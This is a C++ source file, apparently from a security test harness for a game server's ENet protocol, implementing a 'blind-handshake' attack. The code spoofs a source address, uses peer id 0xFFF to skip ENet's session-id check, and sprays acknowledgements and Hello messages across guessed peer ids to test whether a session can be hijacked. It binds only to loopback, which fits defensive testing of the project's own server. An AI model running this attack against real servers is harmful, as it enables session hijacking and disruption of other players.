// blind-handshake: can an address that never reads what the server sends
// (a spoofed source) still own a session? The CONNECT names no slot of ours
// (outgoing peer id 0xFFF, which also makes ENet skip its session-id
// check); the acknowledgement of VERIFY_CONNECT (system channel, sequence 1,
// a sent time of 0, which is never "in the future") is sent once for every
// peer id the server might have chosen (a wrong id is silently ignored:
// another address owns it or nobody does); then a Hello to every id alike.
// Nothing is read until the end, when what arrived is parsed only to tell
// whether a Welcome came (the session was ours).
#include <thread>

#include "attacks.h"
#include "enet_wire.h"
#include "proto/codec.h"
#include "proto/version.h"

namespace qbot::attack {
namespace {

/// One datagram per guessed peer id, each built by `add`.
template <class Add>
void spray(UdpSocket& socket, const Target& to, std::uint32_t guesses, bool sent_time, Add add) {
  for (std::uint32_t id = 0; id < guesses; ++id) {
    wire::DatagramWriter d(static_cast<std::uint16_t>(id), 0,
                           sent_time ? std::optional<std::uint16_t>(0) : std::nullopt);
    add(d);
    socket.send_to(to, d.bytes());
  }
}

/// Reads for `listen_s`: did a Welcome arrive on channel 0?
bool welcome_arrived(UdpSocket& socket, const Target& server, Clock::time_point end, std::uint64_t& datagrams) {
  std::vector<std::uint8_t> buffer(wire::kMaxDatagram);
  bool welcomed = false;
  while (Clock::now() < end) {
    auto n = socket.receive_from(server, buffer, until(end));
    if (!n) continue;
    datagrams += 1;
    auto d = wire::parse_datagram(std::span<const std::uint8_t>(buffer.data(), *n));
    if (!d) continue;
    for (const auto& cmd : d->commands) {
      if (cmd.command != wire::kSendReliable || cmd.channel != 0) continue;
      auto m = proto::decode(cmd.payload, proto::Sender::Server, 0);
      if (m && std::holds_alternative<proto::Welcome>(*m)) welcomed = true;
    }
  }
  return welcomed;
}

}  // namespace

Outcome blind_handshake(const Common& c, const BlindHandshakeOptions& o) {
  if (c.cookie_exchange) return core::Err{std::string("blind-handshake never reads, so it cannot obtain a cookie")};
  if (o.peer_id_guesses == 0 || o.peer_id_guesses > wire::kNoPeer) {
    return core::Err{std::string("--peer-id-guesses must be 1..4095")};
  }
  auto source = LoopbackIp::parse(o.source);
  if (!source) return core::Err{"--source: " + source.error()};
  auto socket = UdpSocket::bind(*source);
  if (!socket) return core::Err{socket.error()};
  std::mt19937 rng(static_cast<std::uint32_t>(c.seed));
  const auto start = Clock::now();

  wire::ConnectFields f;
  f.outgoing_peer_id = wire::kNoPeer;
  f.connect_id = static_cast<std::uint32_t>(rng());
  wire::DatagramWriter connect(wire::kNoPeer, 0, std::uint16_t{0});
  connect.connect(1, f);
  socket->send_to(c.target, connect.bytes());
  std::this_thread::sleep_for(Millis(o.ack_delay_ms));  // the attacker's timing: VERIFY_CONNECT must be out
  spray(*socket, c.target, o.peer_id_guesses, false,
        [](wire::DatagramWriter& d) { d.acknowledge(wire::kSystemChannel, 1, 0); });
  std::this_thread::sleep_for(Millis(o.hello_delay_ms));
  proto::Hello hello;
  hello.protocol_version = proto::kProtocolVersion;
  hello.guest_name = "blind";
  proto::Encoder encoder;
  const auto hello_bytes = encoder.encode(hello);
  const std::vector<std::uint8_t> payload(hello_bytes.begin(), hello_bytes.end());
  spray(*socket, c.target, o.peer_id_guesses, true, [&](wire::DatagramWriter& d) { d.send_reliable(0, 1, payload); });

  std::uint64_t datagrams = 0;
  const bool owned = welcome_arrived(*socket, c.target, deadline_after(c, o.listen_s), datagrams);
  Json j = report(c, "blind-handshake");
  j["peer_id_guesses"] = o.peer_id_guesses;
  j["session_owned"] = owned;
  j["server_datagrams_seen"] = datagrams;
  j["elapsed_s"] = seconds_since(start);
  add_traffic(j, socket->traffic());
  return j;
}

}  // namespace qbot::attack
